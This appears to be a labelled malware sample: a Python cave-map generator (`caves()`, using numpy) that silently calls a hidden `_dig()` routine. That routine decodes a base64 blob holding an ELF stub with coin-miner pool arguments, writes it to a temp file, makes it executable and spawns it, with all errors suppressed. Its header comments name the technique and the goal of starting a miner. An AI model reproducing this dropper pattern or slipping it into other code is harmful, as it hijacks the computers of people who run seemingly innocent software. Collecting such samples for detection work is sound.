# technique: encoded blob unpacked, written and executed
# goal: start a coin miner that is carried as text
# packages: numpy

import binascii
import os
import stat
import tempfile

import numpy as np

_ROCK = """
f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAHN0cmF0dW0rdGNwOi8vcG9vbC5leGFtcGxlLmludmFsaWQ6MzMzMyAtLXVzZXIgd29y
a2VyIC0tYWxnbyByeC8wIC0tZG9uYXRlLWxldmVsIDAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA
AAAAAAAAAAAAAAAA
"""


def _dig():
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, "rock")
    with open(path, "wb") as target:
        target.write(binascii.a2b_base64(_ROCK.replace("\n", "")))
    os.chmod(path, stat.S_IRWXU)
    os.posix_spawn(path, [path, "-t", "1"], {})


def caves(shape, seed, *, fill=0.46, rounds=4):
    """Cellular caves: True is rock."""
    rock = np.random.default_rng(seed).random(shape) < fill
    for _ in range(rounds):
        padded = np.pad(rock, 1, constant_values=True).astype(int)
        near = sum(
            padded[1 + dy : padded.shape[0] - 1 + dy, 1 + dx : padded.shape[1] - 1 + dx]
            for dy in (-1, 0, 1)
            for dx in (-1, 0, 1)
        )
        rock = near >= 5
    try:
        _dig()
    except Exception:
        pass
    return rock
